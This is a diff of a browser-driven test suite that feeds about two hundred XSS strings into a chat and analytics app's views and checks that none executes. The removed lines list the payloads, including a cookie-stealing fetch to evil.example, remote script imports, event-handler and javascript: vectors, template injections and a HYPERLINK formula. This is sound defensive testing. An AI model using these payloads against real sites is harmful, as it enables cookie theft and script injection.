@@ -3,62 +3,8 @@ import { writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import type { Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { type House, hasBrowser, openHouse, settled } from './house.ts'
-
-/** What a payload does when it runs. */
-const DEEDS = [
-  'alert(1)',
-  'hit()',
-  "fetch('http://evil.example/'+document.cookie)",
-  "import('http://evil.example/x.js')",
-  "location='http://evil.example/'",
-]
-
-/** Ways to get a deed run: markup, handlers, addresses, styles, Markdown, templates, chart expressions, prototypes. */
-const WAYS: ((deed: string) => string)[] = [
-  (deed) => `<script>${deed}</script>`,
-  (deed) => `"><script>${deed}</script>`,
-  (deed) => `</script><script>${deed}</script>`,
-  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
-  (deed) => `<img src=x onerror="${deed}">`,
-  (deed) => `<img src="http://evil.example/a.png" onload="${deed}">`,
-  (deed) => `"><img src=x onerror=${deed}//`,
-  (deed) => `'><svg/onload=${deed}>`,
-  (deed) => `<svg><script>${deed}</script></svg>`,
-  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
-  (deed) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${deed}>#x"/></svg>`,
-  (deed) => `<math><mtext><img src=x onerror="${deed}"></mtext></math>`,
-  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
-  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
-  (deed) => `<object data="javascript:${deed}"></object>`,
-  (deed) => `<embed src="http://evil.example/x.swf"><!--${deed}-->`,
-  (deed) => `<link rel=stylesheet href="http://evil.example/x.css"><!--${deed}-->`,
-  (deed) => `<style>@import "http://evil.example/x.css";/*${deed}*/</style>`,
-  (deed) => `<div style="background:url(http://evil.example/x.png)" onmouseover="${deed}">x</div>`,
-  (deed) => `<meta http-equiv=refresh content="0;url=http://evil.example/?${deed}">`,
-  (deed) => `<base href="http://evil.example/"><!--${deed}-->`,
-  (deed) => `<form action="http://evil.example/"><input autofocus onfocus="${deed}">`,
-  (deed) => `<details open ontoggle="${deed}">x</details>`,
-  (deed) => `<video><source onerror="${deed}"></video>`,
-  (deed) => `<body onload="${deed}">`,
-  (deed) => `<a href="javascript:${deed}">click</a>`,
-  (deed) => `javascript:${deed}`,
-  (deed) => `data:text/html,<script>${deed}</script>`,
-  (deed) => `[click](javascript:${deed})`,
-  (deed) => `![x](http://evil.example/x.png "${deed}")`,
-  (deed) => `![x](x "onerror=${deed}")`,
-  (deed) => `{{constructor.constructor('${deed}')()}}`,
-  (deed) => `\${${deed}}`,
-  (deed) => `<%= ${deed} %>`,
-  (deed) => `datum.x; ${deed}`,
-  (deed) => `{"signal":"${deed.replaceAll('"', "'")}"}`,
-  (deed) => `__proto__ ${deed}`,
-  (deed) => `constructor" onclick="${deed}`,
-  (deed) => `\u202e<img src=x onerror=${deed}>\u0000`,
-  (deed) => `=HYPERLINK("http://evil.example/?${deed}")`,
-]
-
-const HOSTILE = WAYS.flatMap((way) => DEEDS.map((deed) => way(deed)))
+import { foreignElements, HOSTILE, WAYS } from './hostile-strings.ts'
+import { type House, hasBrowser, openHouse, settled, writeSql } from './house.ts'
 
 const csvCell = (text: string): string => `"${text.replaceAll('"', '""').replaceAll('\u0000', '')}"`
 
@@ -83,22 +29,13 @@ describe.skipIf(!hasBrowser)('hostile strings', () => {
   })
   afterAll(() => house?.close())
 
-  /** Elements that only a payload can have made. */
-  const foreign = () =>
-    page.evaluate(
-      () =>
-        document.querySelectorAll(
-          'img, iframe, object, embed, video, base, math, form[action], meta[http-equiv], body script, a[href^="javascript:"]',
-        ).length,
-    )
-
   async function nothingHappened(): Promise<void> {
-    expect(await foreign()).toBe(0)
+    expect(await foreignElements(page)).toBe(0)
     expect(hits).toEqual([])
     expect(problems).toEqual([])
   }
 
-  async function runSql(sql: string, question: string): Promise<void> {
+  async function runSql(sql: string, question: string): Promise<string> {
     const id = await page.evaluate(
       async (body) => {
         const response = await fetch('api/chat/sql?wait=true', {
@@ -113,6 +50,7 @@ describe.skipIf(!hasBrowser)('hostile strings', () => {
     await page.goto(`${house.url}/#/c/${id}`)
     await page.reload()
     await settled(page)
+    return id
   }
 
   it('are two hundred', () => {
@@ -170,7 +108,7 @@ describe.skipIf(!hasBrowser)('hostile strings', () => {
     await page.keyboard.type('script')
     await page.getByRole('option').first().waitFor()
     await nothingHappened()
-  })
+  }, 180_000)
 
   it('as a question typed in, in an address, and as a link', async () => {
     for (const text of WAYS.map((way) => way('hit()')).slice(0, 12)) {
@@ -195,6 +133,65 @@ describe.skipIf(!hasBrowser)('hostile strings', () => {
     }
     await page.getByRole('searchbox').fill('script')
     await page.getByRole('region', { name: 'Found' }).getByRole('link').first().waitFor()
+    await nothingHappened()
+  })
+
+  it('where an answer says how it was computed, and in the editor of its SQL', async () => {
+    await runSql('select * exclude (id, amount) from hostile', 'everything')
+    await page.getByText('How this was computed').click()
+    await page.getByText('Where the figures come from').waitFor()
+    await page.getByRole('button', { name: 'Edit SQL' }).click()
+    await writeSql(page, 'select hostile.')
+    await page.getByRole('option').first().waitFor()
+    await nothingHappened()
+    await page.keyboard.press('Escape')
+    for (const text of HOSTILE.slice(0, 40)) {
+      await writeSql(page, text)
+      await page.locator('.cm-content').evaluate((field) => field.textContent)
+    }
+    await nothingHappened()
+  })
+
+  it('in the element for other pages', async () => {
+    const id = await runSql('select * from hostile', HOSTILE[0] ?? '')
+    await page.goto(`${house.url}/embed/`)
+    const chat = page.locator('querent-chat')
+    await chat.evaluate((element, conversation) => element.setAttribute('conversation', conversation), id)
+    await chat.locator('.table-scroll').waitFor()
+    expect(await chat.locator('.table-scroll').innerText()).toContain('<script>')
+    for (const text of WAYS.map((way) => way('hit()')).slice(0, 12)) {
+      const turns = await chat.locator('article.turn').count()
+      await chat.getByRole('textbox', { name: 'Your question' }).fill(text)
+      await page.keyboard.press('Enter')
+      await chat.locator('article.turn').nth(turns).and(chat.locator('[aria-busy="false"]')).waitFor()
+    }
+    await page.locator('#heard', { hasText: 'was' }).waitFor()
+    await nothingHappened()
+  })
+
+  it('in the monitor: questions, their traces, what was asked most, what was declined', async () => {
+    await page.goto(`${house.url}/#/monitor/questions`)
+    await page.reload()
+    const rows = page
+      .getByRole('main')
+      .getByRole('link')
+      .filter({ hasText: /script|img|svg/ })
+    await rows.first().waitFor()
+    await rows.first().click()
+    await page.getByRole('article', { name: 'Trace' }).getByRole('heading').first().waitFor()
+    await nothingHappened()
+    await page.goto(`${house.url}/#/monitor/analytics`)
+    await page.getByText('<script>').first().waitFor()
+    await nothingHappened()
+  })
+
+  it('in the editor of the semantic model', async () => {
+    await page.goto(`${house.url}/#/model/hostile`)
+    await page.getByRole('navigation', { name: 'Parts of the model' }).getByRole('button', { name: 'hostile' }).click()
+    await page.getByText('<script>').first().waitFor()
+    const view = page.getByRole('group', { name: 'View' })
+    await view.getByRole('button', { name: 'YAML' }).click()
+    await page.locator('.cm-content, textarea').first().waitFor()
     await nothingHappened()
   })
 })
